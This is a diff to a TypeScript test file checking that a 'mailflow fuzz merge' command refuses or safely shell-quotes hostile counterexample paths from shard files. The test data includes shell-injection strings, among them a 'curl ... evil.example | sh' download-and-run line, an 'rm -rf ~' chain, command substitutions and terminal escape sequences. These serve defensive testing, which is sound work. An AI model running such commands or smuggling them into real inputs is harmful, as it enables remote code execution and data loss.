@@ -1,8 +1,8 @@
 // `mailflow fuzz merge` prints what the shards say, and a shard is a file anyone may have handed over. The security
 // review planted a counterexample `x.yaml; curl ... | sh #`, printed in a "replay it:" line to paste into a shell,
 // and problems and an offender with escape sequences that retitled the terminal and wrote the clipboard.
-import { mkdtempSync, writeFileSync } from 'node:fs';
-import { spawnSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -36,9 +36,8 @@ function failingShard(name: string, fields: Record<string, unknown>): string {
 }
 
 describe('fuzz merge on a shard of hostile text', () => {
-  it('refuses a counterexample that is no plain path of a .yaml file, naming the shard file and the field', () => {
-    for (const planted of ['fuzz-out/x.yaml; curl -s https://evil.example/x | sh #', 'fuzz-out/$(curl evil.example).yaml', 'fuzz-out/`id`.yaml',
-      "fuzz-out/it's.yaml", 'fuzz-out/a.yaml && rm -rf ~ && b.yaml', 'fuzz-out/x\n.yaml', 'fuzz-out/\u001b]0;x\u0007.yaml', 'fuzz-out/\u202ex.yaml',
+  it('refuses a counterexample quoting cannot make harmless (control characters, an option, no .yaml file), naming the shard file and the field', () => {
+    for (const planted of ['fuzz-out/x.yaml; curl -s https://evil.example/x | sh #', 'fuzz-out/x\n.yaml', 'fuzz-out/\u001b]0;x\u0007.yaml', 'fuzz-out/\u202ex.yaml',
       '--report=/tmp/x.yaml', 'fuzz-out/x.json', 'fuzz-out/x.yaml\t', 42]) {
       const shard = failingShard('planted.json', { counterexample: planted });
       const merged = mailflow('fuzz', 'merge', shard);
@@ -47,6 +46,18 @@ describe('fuzz merge on a shard of hostile text', () => {
       expect(merged.stderr.startsWith(`${shard}: counterexample: `), merged.stderr).toBe(true);
       expect(controlsIn(merged.stderr), String(planted)).toEqual([]);
     }
+  });
+
+  it('prints a counterexample holding shell syntax as one quoted word, which a shell does not run', () => {
+    const planted = "fuzz-out/x.yaml; touch pwned; $(touch pwned2) `touch pwned3` it's.yaml";
+    const merged = mailflow('fuzz', 'merge', failingShard('syntax.json', { counterexample: planted }));
+    expect(merged.status).toBe(1);
+    const line = /^replay it: (mailflow run .*)$/m.exec(merged.stdout)?.[1] ?? '';
+    // The shell reads the printed words back as they were written: `mailflow`, `run` and the path, nothing run.
+    const cwd = mkdtempSync(join(tmpdir(), 'mailflow-paste-'));
+    const words = execFileSync('sh', ['-c', `printf '%s\\n' ${line}`], { encoding: 'utf8', cwd });
+    expect(words).toBe(`mailflow\nrun\n${planted}\n`);
+    expect(readdirSync(cwd)).toEqual([]);
   });
 
   it('merges a plain path, quoting it in the replay line when it holds a space', () => {
